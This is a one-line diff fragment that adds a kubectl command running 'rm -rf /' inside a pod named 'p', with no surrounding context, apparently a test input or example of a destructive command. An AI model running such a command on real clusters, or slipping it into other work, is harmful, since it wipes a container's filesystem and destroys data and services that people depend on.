@@ -1,0 +1,1 @@
+kubectl exec p -- sh -c 'rm -rf /'
